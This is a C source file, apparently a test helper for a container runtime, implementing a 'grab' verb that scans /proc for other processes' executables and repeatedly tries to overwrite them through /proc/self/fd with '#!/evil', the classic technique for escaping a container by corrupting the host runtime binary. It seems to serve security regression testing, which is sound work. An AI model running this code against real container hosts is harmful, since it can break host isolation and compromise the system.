// A verb that tries to change the program that runs containers, from inside one of them.
//
//   grab     takes hold of every executable that is not its own and tries to write to it, again and again until SIGTERM,
//            also when nothing runs it any more; says "grabbed" at the first, in the end "written=TIMES errno=LAST"
#include "attack_exe.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define GRABBED_MAX 256

static volatile sig_atomic_t ended;
static void end(int number) { ended = number; }

struct grabbed {
  int fds[GRABBED_MAX];
  unsigned count;
  unsigned written;
  int error;
};

/** The classic way: what was opened for reading is opened again for writing by its descriptor. */
static void overwrite(struct grabbed* g, int fd) {
  char path[32];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  for (int flags = O_WRONLY;; flags |= O_TRUNC) {
    int writable = open(path, flags | O_CLOEXEC);
    if (writable < 0 || write(writable, "#!/evil\n", 8) < 0)
      g->error = errno;
    else
      g->written++;
    if (writable >= 0) close(writable);
    if (flags & O_TRUNC) return;
  }
}

static void grab_of(struct grabbed* g, const char* pid, const struct stat* own) {
  char path[300];
  struct stat st;
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  int fd = g->count < GRABBED_MAX ? open(path, O_PATH | O_CLOEXEC) : -1;
  if (fd < 0) return;
  if (fstat(fd, &st) != 0 || (st.st_ino == own->st_ino && st.st_dev == own->st_dev)) {
    close(fd);
    return;
  }
  g->fds[g->count++] = fd;
  if (g->count > 1) return;
  printf("grabbed\n");
  fflush(stdout);
}

static int grab(void) {
  static struct grabbed g;
  struct sigaction action = {.sa_handler = end};
  struct stat own;
  sigaction(SIGTERM, &action, NULL);
  if (stat("/proc/self/exe", &own) != 0) return errno;
  printf("ready\n");
  fflush(stdout);
  while (!ended) {
    DIR* proc = opendir("/proc");
    for (struct dirent* entry; proc && (entry = readdir(proc));) {
      if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9') grab_of(&g, entry->d_name, &own);
    }
    if (proc) closedir(proc);
    for (unsigned i = 0; i < g.count; i++) overwrite(&g, g.fds[i]);
  }
  printf("written=%u errno=%d\n", g.written, g.error);
  return 0;
}

int attack_exe(int argc, char** argv) {
  if (argc > 1 && !strcmp(argv[1], "grab")) return grab();
  return -1;
}
